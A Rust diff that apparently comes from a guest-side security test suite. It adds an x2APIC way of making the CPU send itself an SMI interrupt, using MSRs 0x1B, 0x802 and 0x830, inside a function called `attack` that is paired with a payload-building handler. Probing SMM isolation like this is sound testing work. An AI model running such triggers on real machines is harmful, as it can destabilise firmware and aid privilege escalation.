@@ -21,6 +21,8 @@ pub enum Trigger {
     Apm,
     /// An SMI IPI from the local APIC to itself (ICR delivery mode 010b).
     Ipi,
+    /// The same from x2APIC mode, where the ICR is MSR 0x830 (SDM Vol. 3A 12.12.9).
+    X2apicIpi,
 }
 
 fn handler(target: u64) -> ([u8; 64], usize) {
@@ -82,6 +84,16 @@ pub fn attack(trigger: Trigger) -> Outcome {
             let id = read32(base + 0x20) >> 24;
             write32(base + 0x310, id << 24);
             write32(base + 0x300, 2 << 8);
+        },
+        Trigger::X2apicIpi => unsafe {
+            if guest_kit::cpu::cpuid(1, 0).ecx & (1 << 21) == 0 {
+                return pass!("no-x2apic");
+            }
+            // Into x2APIC mode if not there yet; it stays (see apic.rs).
+            let apic = guest_kit::cpu::rdmsr(0x1B);
+            guest_kit::cpu::wrmsr(0x1B, apic | (1 << 10));
+            let id = guest_kit::cpu::rdmsr(0x802);
+            guest_kit::cpu::wrmsr(0x830, (id << 32) | (2 << 8));
         },
     }
     for _ in 0..10_000 {
